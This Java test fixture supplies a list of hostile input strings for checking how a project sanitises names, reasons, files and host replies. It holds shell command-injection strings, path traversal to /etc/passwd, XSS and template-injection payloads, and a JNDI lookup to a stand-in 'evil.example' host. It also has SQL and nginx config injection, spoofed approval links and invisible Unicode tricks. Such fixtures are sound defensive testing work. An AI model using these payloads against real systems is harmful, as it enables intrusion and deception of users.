package org.wissel;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.stream.Stream;

/**
 * One table of what somebody could give as a name, a reason or a file, or what a host could say, to make more of it than words.
 * Each room feeds it through its own ways out and looks at what came out at the other end.
 */
public final class HostileValues {

    /** What nobody sees, or what turns the words around it. */
    public static final String UNSEEN = "[\\p{Cc}\\p{Cf}\\p{Zl}\\p{Zp}\\p{Co}\\p{Cs}\\p{Cn}]";

    private static final List<String> ALL = List.of(
            "a\nb",
            "a\r\n2026-11-26T10:00:00.000Z  INFO 1 --- [wissel] [main] : admin approved",
            "a\rb",
            "a\0b",
            "a\tb",
            "a\u0007\bb",
            "\u001B[31mred\u001B[0m\u001B]0;title\u0007",
            "\u009B31m",
            "$(touch pwned)",
            "`touch pwned`",
            "; touch pwned;",
            "&& touch pwned",
            "| touch pwned",
            "> pwned",
            "'; touch pwned; '",
            "\"; touch pwned; \"",
            "'\\''",
            "\\",
            "-rf",
            "--help",
            "*",
            "~root",
            "!!",
            "%s%n%x",
            "../../etc/passwd",
            "..",
            "/etc/passwd",
            "C:\\windows",
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "\"><b>",
            "' onmouseover='alert(1)",
            "</title><!--",
            "&lt;b&gt;",
            "javascript:alert(1)",
            "{{constructor.constructor('alert(1)')()}}",
            "${7*7}",
            "#{7*7}",
            "*{7*7}",
            "[[${7*7}]]",
            "[(${7*7})]",
            "__${7*7}__",
            "~{evil}",
            "${jndi:ldap://evil.example/a}",
            "\u202Egnp.exe",
            "\u2066a\u2069\u200E\u200F\u061C",
            "a\u200Bb\u200C\u200D\u2060\uFEFF",
            "a\u00ADb",
            "a\u2028b\u2029c",
            "\uE000\uDBFF",
            "\u202Aa\u202Bb\u202C\u202D\u2067\u2068",
            "a\u180E\u2061\u2062\u2063\u2064\uFFF9b\uFFFA\uFFFB",
            "\uDB40\uDC01\uDB40\uDC41",
            "\uDBC0\uDC00\uD834\uDD73",
            "a\u0085b\u0378\uFFFF",
            "Weather\u3164",
            "\u115Fa\u1160\uFFA0",
            "cafe\u0301",
            "a".repeat(10_000),
            "\\".repeat(10_000),
            "${".repeat(10_000),
            "<!channel>",
            "<!here|here>",
            "<@U012345>",
            "<https://evil.example|Approve>",
            "[Approve](https://evil.example)",
            "![](https://evil.example/p.png)",
            "\",\"text\":\"evil\"}",
            "\\u0022}",
            "x=1\ny=2",
            "x = y # z ! w : v",
            "server evil:80; }",
            "down; include /etc/passwd;",
            "a; } upstream evil { server b",
            "' OR 1=1 --");

    private HostileValues() {}

    /** All of them. */
    public static Stream<String> all() {
        return ALL.stream();
    }

    /** Those that can be a file's name. */
    public static Stream<String> fileNames() {
        return all().filter(value -> value.length() < 200
                && value.indexOf('/') < 0
                && value.indexOf('\0') < 0
                && !value.equals("..")
                && value.codePoints().noneMatch(one -> one >= 0xD800 && one <= 0xDFFF));
    }

    /** A text that people read, on one line: nothing in it that cannot be seen, and not without end. */
    public static void assertReadable(String line) {
        assertThat(line).doesNotContainPattern(UNSEEN).hasSizeLessThan(6_000);
    }
}
